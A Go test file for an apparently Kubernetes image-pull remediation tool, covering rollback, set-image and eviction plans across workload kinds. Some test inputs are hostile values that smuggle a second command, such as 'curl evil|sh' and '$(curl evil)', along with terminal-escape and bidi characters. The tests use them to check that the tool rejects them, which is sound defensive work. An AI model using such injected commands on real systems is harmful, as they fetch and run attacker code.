// Copyright 2026 The Pullmedic Authors
// SPDX-License-Identifier: Apache-2.0

package remedy_test

import (
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"

	"github.com/pullmedic/pullmedic/catalog"
	"github.com/pullmedic/pullmedic/diagnosis"
	"github.com/pullmedic/pullmedic/evidence"
	"github.com/pullmedic/pullmedic/internal/remedy"
)

func side(image string) corev1.Container {
	return corev1.Container{Name: "side", Image: image, ImagePullPolicy: corev1.PullIfNotPresent}
}

func env(t corev1.PodTemplateSpec, value string) corev1.PodTemplateSpec {
	t.Spec.Containers[0].Env = []corev1.EnvVar{{Name: "MODE", Value: value}}
	return t
}

func TestWrongImages(t *testing.T) {
	const at = "/spec/template/spec/containers/0/image="
	wrongTag := diagnose(t, catalog.TagNotFound, "", "app", wrong)
	failing := pod("api-new", hash2, template(wrong), false, "app")
	old := func(n int) []*corev1.Pod {
		pods := []*corev1.Pod{failing}
		for i := range n {
			pods = append(pods, pod("api-old-"+string(rune('a'+i)), hash1, template(good), true))
		}
		return pods
	}
	withInit := func(image string) corev1.PodTemplateSpec {
		x := template(good)
		x.Spec.InitContainers = []corev1.Container{{Name: "prepare", Image: image}}
		return x
	}
	withVolume := func(image string) corev1.PodTemplateSpec {
		x := template(good)
		x.Spec.Volumes = []corev1.Volume{{Name: "tmp"}, {Name: "model", VolumeSource: corev1.VolumeSource{Image: &corev1.ImageVolumeSource{Reference: image}}}}
		return x
	}
	for _, c := range []struct {
		name    string
		k       remedy.Case
		o       remedy.Options
		want    []string // in order
		because string   // part of the first's
		risk    string   // part of one of the first's
	}{
		{
			name: "a Deployment mid-rollout goes back, and what serves stays",
			k:    remedy.Case{Target: target("Deployment", template(wrong), revision(template(good), 3)), Pods: old(3), Diagnoses: []diagnosis.Diagnosis{wrongTag}},
			want: []string{
				"applied previous-image: Set container app back to " + good + " | deployment/api " + at + good,
				"applied set-image: Set container app to an image that exists [--to IMAGE]",
			},
			because: "revision 17 runs it, with 3 ready",
		},
		{
			name: "templates that differ in more offer both, and the one that restarts no healthy pod comes first",
			k:    remedy.Case{Target: target("Deployment", env(template(wrong), "b"), revision(env(template(good), "a"), 3)), Pods: old(3), Diagnoses: []diagnosis.Diagnosis{wrongTag}},
			want: []string{
				"applied rollout-undo: Go back to the whole template of revision 17 | deployment/api /spec/template/spec/containers/0/env/0/value=a " + at + good,
				"applied previous-image: Set container app back to " + good + " | deployment/api " + at + good + " | restarts 3",
				"applied set-image: Set container app to an image that exists [--to IMAGE]",
			},
		},
		{
			name: "a tag that was moved since it ran is pinned to what ran",
			k: remedy.Case{
				Target:    target("Deployment", template(wrong), revision(template(good), 1)),
				Pods:      []*corev1.Pod{failing, ran(pod("api-old", hash1, template(good), true), "registry.example/acme/app", digestA)},
				Digests:   map[string]string{good: digestB},
				Diagnoses: []diagnosis.Diagnosis{wrongTag},
			},
			want: []string{
				"applied previous-image: Set container app back to " + good + "@" + digestA + " | deployment/api " + at + good + "@" + digestA + " | restarts 1",
				"applied set-image: Set container app to an image that exists [--to IMAGE]",
			},
			because: "(sha256:aa11aa11aa11); the tag means another image now",
		},
		{
			name: "a tag that still means what ran stays a tag",
			k: remedy.Case{
				Target:    target("Deployment", template(wrong), revision(template(good), 1)),
				Pods:      []*corev1.Pod{failing, ran(pod("api-old", hash1, template(good), true), "registry.example/acme/app", digestA)},
				Digests:   map[string]string{good: digestA},
				Diagnoses: []diagnosis.Diagnosis{wrongTag},
			},
			want: []string{
				"applied previous-image: Set container app back to " + good + " | deployment/api " + at + good,
				"applied set-image: Set container app to an image that exists [--to IMAGE]",
			},
		},
		{
			name: "two containers with wrong images go back together",
			k: remedy.Case{
				Target:    target("Deployment", template(wrong, side("registry.example/acme/side:33")), revision(template(good, side(sidecar)), 0)),
				Pods:      []*corev1.Pod{pod("api-new", hash2, template(wrong, side("registry.example/acme/side:33")), false, "app", "side")},
				Diagnoses: []diagnosis.Diagnosis{wrongTag, diagnose(t, catalog.TagNotFound, "", "side", "registry.example/acme/side:33")},
			},
			want: []string{
				"applied previous-image: Set container app back to " + good + ", container side to " + sidecar + " | deployment/api " + at + good + " /spec/template/spec/containers/1/image=" + sidecar,
				"applied set-image: Set container app to an image that exists [--to app=IMAGE]",
			},
			because: "revision 17 ran it",
		},
		{
			name: "of two containers with wrong images, --to has to say which",
			k: remedy.Case{
				Target:    target("Deployment", template(wrong, side("registry.example/acme/side:33"))),
				Diagnoses: []diagnosis.Diagnosis{wrongTag, diagnose(t, catalog.TagNotFound, "", "side", "registry.example/acme/side:33")},
			},
			o:       remedy.Options{To: good},
			want:    []string{"applied set-image: Set container app to an image that exists [--to app=IMAGE]"},
			because: "container app, container side",
		},
		{
			name: "each of two containers gets the image that is named for it",
			k: remedy.Case{
				Target:    target("Deployment", template(wrong, side("registry.example/acme/side:33"))),
				Diagnoses: []diagnosis.Diagnosis{wrongTag, diagnose(t, catalog.TagNotFound, "", "side", "registry.example/acme/side:33")},
			},
			o:    remedy.Options{Images: []remedy.Named{{Container: "side", Image: sidecar}, {Container: "app", Image: good}}},
			want: []string{"applied set-image: Set container app to " + good + " | deployment/api " + at + good},
		},
		{
			name: "of two containers, it is meant for the one whose image is wrong",
			k: remedy.Case{
				Target:    target("Deployment", template(wrong, side(sidecar))),
				Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.CredentialsMissing, "", "side", sidecar), wrongTag},
			},
			o: remedy.Options{To: good},
		},
		{
			name: "--to is heard whatever the cause is",
			k: remedy.Case{
				Target:    target("Deployment", template(wrong, side(sidecar))),
				Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.CredentialsInvalid, "", "side", sidecar)},
			},
			o:    remedy.Options{To: good},
			want: []string{"applied set-image: Set container side to " + good + " | deployment/api /spec/template/spec/containers/1/image=" + good},
		},
		{
			name: "of two containers, the chosen one gets it",
			k: remedy.Case{
				Target:    target("Deployment", template(wrong, side("registry.example/acme/side:33"))),
				Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, "", "side", "registry.example/acme/side:33"), wrongTag},
			},
			o:    remedy.Options{To: sidecar, Container: "side"},
			want: []string{"applied set-image: Set container side to " + sidecar + " | deployment/api /spec/template/spec/containers/1/image=" + sidecar},
		},
		{
			name: "what --to names has to be an image",
			k:    remedy.Case{Target: target("Deployment", template(wrong)), Diagnoses: []diagnosis.Diagnosis{wrongTag}}, o: remedy.Options{To: "registry.example/acme/App:1;curl evil|sh"},
			want:    []string{"applied set-image: Set container app to an image that exists [--to IMAGE]"},
			because: "what --to names is no image: ",
		},
		{
			name: "what --to names must not be what fails",
			k:    remedy.Case{Target: target("Deployment", template(wrong)), Diagnoses: []diagnosis.Diagnosis{wrongTag}}, o: remedy.Options{To: wrong},
			want:    []string{"applied set-image: Set container app to an image that exists [--to IMAGE]"},
			because: "is the image that cannot be pulled",
		},
		{
			name: "nearest names are shown, and none is chosen",
			k: remedy.Case{Target: target("Deployment", template(wrong)), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, "", "app", wrong, evidence.Finding{
				Check: evidence.CheckTags, Outcome: evidence.TagsListed, Details: map[string]string{"nearest": "1.27.4 1.27.3"},
			})}},
			want:    []string{"applied set-image: Set container app to an image that exists [--to IMAGE]"},
			because: "names like it that exist: registry.example/acme/app:1.27.4, registry.example/acme/app:1.27.3",
		},
		{
			name: "a StatefulSet's failing pod has to be evicted",
			k:    remedy.Case{Target: target("StatefulSet", template(wrong), revision(template(good), 0)), Pods: old(2), Diagnoses: []diagnosis.Diagnosis{wrongTag}},
			want: []string{
				"applied previous-image: Set container app back to " + good + " | statefulset/api " + at + good + " | evict",
				"applied set-image: Set container app to an image that exists [--to IMAGE]",
			},
		},
		{
			name: "a DaemonSet that replaces pods when they are gone restarts none",
			k: remedy.Case{Target: func() remedy.Target {
				x := target("DaemonSet", env(template(wrong), "b"), revision(env(template(good), "a"), 0))
				x.OnDelete = true
				return x
			}(), Pods: old(2), Diagnoses: []diagnosis.Diagnosis{wrongTag}}, o: remedy.Options{To: good},
			want: []string{"applied set-image: Set container app to " + good + " | daemonset/api " + at + good + " | evict"},
		},
		{
			name: "another image for a workload restarts all that are ready",
			k:    remedy.Case{Target: target("Deployment", template(wrong), revision(template("registry.example/acme/app:1.26"), 3)), Pods: old(3), Diagnoses: []diagnosis.Diagnosis{wrongTag}},
			o:    remedy.Options{To: "registry.example/acme/app:1.28"},
			want: []string{"applied set-image: Set container app to registry.example/acme/app:1.28 | deployment/api " + at + "registry.example/acme/app:1.28 | restarts 3"},
		},
		{
			name: "the init container's image",
			k: remedy.Case{
				Target: target("Deployment", withInit(wrong), revision(withInit(sidecar), 0)), Pods: []*corev1.Pod{pod("api-new", hash2, withInit(wrong), false, "prepare")},
				Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, evidence.InitContainer, "prepare", wrong)},
			},
			want: []string{
				"applied previous-image: Set init container prepare back to " + sidecar + " | deployment/api /spec/template/spec/initContainers/0/image=" + sidecar,
				"applied set-image: Set init container prepare to an image that exists [--to IMAGE]",
			},
		},
		{
			name: "an image volume of a template",
			k:    remedy.Case{Target: target("Deployment", withVolume(wrong)), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, evidence.ImageVolume, "model", wrong)}}, o: remedy.Options{To: good},
			want: []string{"applied set-image: Set image volume model to " + good + " | deployment/api /spec/template/spec/volumes/1/image/reference=" + good},
		},
		{
			name:    "an image volume of a bare pod is handed over",
			k:       remedy.Case{Target: target("Pod", withVolume(wrong)), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, evidence.ImageVolume, "model", wrong)}},
			o:       remedy.Options{To: good},
			want:    []string{"handed-over replace-pod: Set image volume model to " + good},
			because: "can never be changed",
			risk:    "deleted first",
		},
		{
			name: "a bare pod's image is set in the pod",
			k:    remedy.Case{Target: target("Pod", template(wrong)), Diagnoses: []diagnosis.Diagnosis{wrongTag}}, o: remedy.Options{To: good},
			want: []string{"applied set-image: Set container app to " + good + " | pod/api /spec/containers/0/image=" + good},
		},
		{
			name: "an invalid name is set right in the pod",
			k: remedy.Case{
				Target:    target("Pod", template("registry.example/acme/App:1.27.4")),
				Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.InvalidImageName, "", "app", "registry.example/acme/App:1.27.4")},
			},
			o:    remedy.Options{To: good},
			want: []string{"applied set-image: Set container app to " + good + " | pod/api /spec/containers/0/image=" + good},
		},
		{
			name: "a static pod is a file",
			k: remedy.Case{Target: func() remedy.Target {
				x := target("Pod", template(wrong))
				x.Template.Annotations = map[string]string{corev1.MirrorPodAnnotationKey: "x"}
				return x
			}(), Diagnoses: []diagnosis.Diagnosis{wrongTag}}, o: remedy.Options{To: good},
			want: []string{"handed-over static-pod: Set container app to " + good},
		},
		{
			name:    "a Job's failing pods are changed in place",
			k:       remedy.Case{Target: target("Job", template(wrong)), Pods: []*corev1.Pod{failing, pod("api-done", hash2, template(wrong), true)}, Diagnoses: []diagnosis.Diagnosis{wrongTag}},
			o:       remedy.Options{To: good},
			want:    []string{"applied set-image: Set container app to " + good + " in 1 failing pod | pod/api-new /spec/containers/0/image=" + good},
			because: "you named it", risk: "the Job's template keeps the old image: a further pod of it fails again; --with replace-job shows the commands that replace the Job",
		},
		{
			name: "a CronJob is set right, and the pod of the run that hangs in place",
			k:    remedy.Case{Target: target("CronJob", template(wrong)), Pods: []*corev1.Pod{failing}, Diagnoses: []diagnosis.Diagnosis{wrongTag}},
			o:    remedy.Options{To: good},
			want: []string{"applied set-image: Set container app to " + good + " | cronjob/api /spec/jobTemplate/spec/template/spec/containers/0/image=" + good + " | pod/api-new /spec/containers/0/image=" + good},
		},
		{
			name: "a debugging container is added anew",
			k:    remedy.Case{Target: target("Pod", template(good)), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, evidence.EphemeralContainer, "debug", wrong)}},
			o:    remedy.Options{To: good},
			want: []string{"handed-over debug-again: Add a debugging container with " + good},
		},
		{
			name: "a StatefulSet that was set right waits for a pod of the revision before",
			k: remedy.Case{
				Target: target("StatefulSet", template(good), revision(template(wrong), 0), revision(template(sidecar), 0)),
				Pods:   []*corev1.Pod{failing}, Diagnoses: []diagnosis.Diagnosis{wrongTag},
			},
			want: []string{
				"applied follow-template: Have the failing pods made anew from the template as it is now | evict",
				"applied set-image: Set container app to an image that exists [--to IMAGE]",
			},
			because: "the template has " + good + " already",
		},
		{
			name: "a Deployment that was set right needs no help, and does not go back",
			k: remedy.Case{
				Target: target("Deployment", template(good), revision(template(wrong), 0), revision(template(sidecar), 0)),
				Pods:   []*corev1.Pod{failing}, Diagnoses: []diagnosis.Diagnosis{wrongTag},
			},
			want: []string{"applied set-image: Set container app to an image that exists [--to IMAGE]"},
		},
		{
			name: "a CronJob that was set right still has a run that hangs",
			k:    remedy.Case{Target: target("CronJob", template(good)), Pods: []*corev1.Pod{failing}, Diagnoses: []diagnosis.Diagnosis{wrongTag}},
			want: []string{
				"applied follow-template: Set container app to " + good + " in the run that hangs | pod/api-new /spec/containers/0/image=" + good,
				"applied set-image: Set container app to an image that exists [--to IMAGE]",
			},
		},
		{
			name: "an image that a webhook wrote into the pod is not taken for an earlier template",
			k: remedy.Case{
				Target: target("Deployment", template("acme/app:1.27.44"), revision(template(good), 0)),
				Pods:   []*corev1.Pod{failing}, Diagnoses: []diagnosis.Diagnosis{wrongTag},
			},
			want: []string{
				"applied previous-image: Set container app back to " + good + " | deployment/api " + at + good,
				"applied set-image: Set container app to an image that exists [--to IMAGE]",
			},
		},
		{
			name: "a paused rollout is said",
			k: remedy.Case{Target: func() remedy.Target {
				x := target("Deployment", template(wrong))
				x.Paused = true
				return x
			}(), Diagnoses: []diagnosis.Diagnosis{wrongTag}}, o: remedy.Options{To: good},
			want: []string{"applied set-image: Set container app to " + good + " | deployment/api " + at + good},
			risk: "paused",
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			var got []string
			all := plan(t, c.k, c.o)
			for _, r := range all {
				got = append(got, told(r))
			}
			if len(c.want) == 0 && slices.ContainsFunc(all, remedy.Remedy.Ready) {
				t.Fatalf("got %s, want nothing", strings.Join(got, "\n"))
			}
			for i, line := range got {
				if slices.Contains(got[:i], line) {
					t.Errorf("twice: %s", line)
				}
			}
			if len(got) < len(c.want) || !slices.Equal(got[:len(c.want)], c.want) {
				t.Fatalf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(c.want, "\n"))
			}
			if len(all) > 0 && !strings.Contains(all[0].Because, c.because) {
				t.Errorf("because %q, want %q in it", all[0].Because, c.because)
			}
			if c.risk != "" && !strings.Contains(strings.Join(all[0].Risks, "\n"), c.risk) {
				t.Errorf("risks %q, want %q in one", all[0].Risks, c.risk)
			}
		})
	}
}

// A revision's image is what somebody typed: what no kubelet can parse never ran,
// and is not gone back to.
func TestNoRevisionWithAHostileImageIsGoneBackTo(t *testing.T) {
	for _, image := range []string{"x;curl evil|sh", "$(curl evil)", "acme/App:1", "a\x1b[2Jb", "registry.example/acme/app:1\u202e"} {
		k := remedy.Case{Target: target("Deployment", template(wrong), revision(template(image), 3)), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, "", "app", wrong)}}
		for _, r := range plan(t, k, remedy.Options{}) {
			if r.Ready() {
				t.Errorf("%q: %s", image, told(r))
			}
		}
		k.Diagnoses[0].Pull.Image = shownAs(image)
		k.Target = target("Pod", template(image))
		for _, o := range []remedy.Options{{To: good}, {Recreate: true}} {
			for _, r := range plan(t, k, o) {
				for _, s := range slices.Concat([]string{r.Title, r.Because, r.Needs}, r.Risks) {
					if strings.ContainsAny(s, "\x1b\u202e") {
						t.Errorf("%s says %q", r.ID, s)
					}
				}
			}
		}
	}
}

func shownAs(image string) string {
	return strings.NewReplacer("\x1b", "", "\u202e", "").Replace(image)
}

// What is foreseen is the pod as it will be.
func TestWhatIsForeseenIsTheChangedPod(t *testing.T) {
	d := diagnose(t, catalog.TagNotFound, "", "app", wrong)
	failing := pod("api-new", hash2, template(wrong, side(sidecar)), false, "app")
	for kind, exists := range map[string]bool{"Deployment": false, "CronJob": false, "Job": true, "Pod": true} {
		k := remedy.Case{Target: target(kind, template(wrong, side(sidecar))), Pods: []*corev1.Pod{failing}, Diagnoses: []diagnosis.Diagnosis{d}}
		r := plan(t, k, remedy.Options{To: good})[0]
		if r.Foresee == nil || len(r.Foresee.Pods) != 1 || r.Foresee.Exists != exists || r.Image != good {
			t.Fatalf("%s: %+v", kind, r)
		}
		p := r.Foresee.Pods[0]
		if p.Spec.Containers[0].Image != good || p.Spec.Containers[1].Image != sidecar || p.Namespace != "shop" || p.Name == "" {
			t.Errorf("%s: foreseen is %+v", kind, p)
		}
		if k.Target.Template.Spec.Containers[0].Image != wrong || failing.Spec.Containers[0].Image != wrong {
			t.Fatalf("%s: the case was changed", kind)
		}
	}
}
